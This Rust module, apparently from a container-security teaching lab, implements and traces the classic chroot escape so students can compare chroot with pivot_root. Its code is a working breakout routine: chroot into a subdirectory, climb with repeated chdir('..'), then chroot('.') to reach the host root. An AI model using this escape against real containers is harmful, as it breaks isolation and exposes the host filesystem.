//! The classic chroot escape, run from inside a container so students can see what
//! `chroot` does not protect against and what `pivot_root` does.
//!
//! A process that may call `chroot(2)` (CAP_SYS_CHROOT, which the OCI default set keeps)
//! chroots into a subdirectory without changing its working directory: the working
//! directory is now *outside* its root, so `chdir("..")` walks up past the old root to
//! the real one, and `chroot(".")` makes that the root. Against a `chroot`ed container
//! this reaches the host's `/`. After `pivot_root` and unmounting the old root, the host's
//! tree is simply not in the container's mount namespace: there is nothing to walk up to.

use super::trace::Tracer;
use serde::{Deserialize, Serialize};
use std::os::unix::fs::MetadataExt;

/// Where the escape attempt ended: the device and inode of the `/` it reached.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Reached {
    pub dev: u64,
    pub ino: u64,
}

impl Reached {
    /// The `/` of the calling process.
    pub fn own_root() -> std::io::Result<Self> {
        let m = std::fs::metadata("/")?;
        Ok(Reached {
            dev: m.dev(),
            ino: m.ino(),
        })
    }
}

/// Attempts the escape in the calling process (the exec helper, already inside the
/// container) and returns the `/` it ended at.
pub fn attempt(tracer: &Tracer) -> anyhow::Result<Reached> {
    let dir = "/.contlab-breakout";
    // Another attempt may have left the directory; EEXIST is fine.
    let _ = tracer.op(
        "mkdir",
        || format!("{dir:?}, 0700"),
        || Some(format!("mkdir {dir}")),
        || match nix::unistd::mkdir(dir, nix::sys::stat::Mode::S_IRWXU) {
            Err(nix::errno::Errno::EEXIST) => Ok(()),
            other => other,
        },
    );
    tracer.op(
        "chroot",
        || format!("{dir:?}"),
        || {
            Some(format!(
                "chroot {dir}  # the working directory stays outside the new root"
            ))
        },
        || nix::unistd::chroot(dir),
    )?;
    let mut steps = 0;
    for _ in 0..256 {
        let before = std::fs::metadata(".")?;
        nix::unistd::chdir("..")?;
        let after = std::fs::metadata(".")?;
        steps += 1;
        if before.dev() == after.dev() && before.ino() == after.ino() {
            break;
        }
    }
    tracer.emit(super::trace::TraceEvent {
        pid: std::process::id() as i32,
        op: "chdir".into(),
        args: format!("\"..\" ×{steps}"),
        ok: true,
        result: "0".into(),
        duration_us: 0,
        shell: Some("cd ..  # repeated until .. is . again".into()),
    });
    tracer.op(
        "chroot",
        || "\".\"".into(),
        || Some("chroot .".into()),
        || nix::unistd::chroot("."),
    )?;
    let reached = Reached::own_root()?;
    let _ = std::fs::remove_dir(format!(".{dir}"));
    Ok(reached)
}
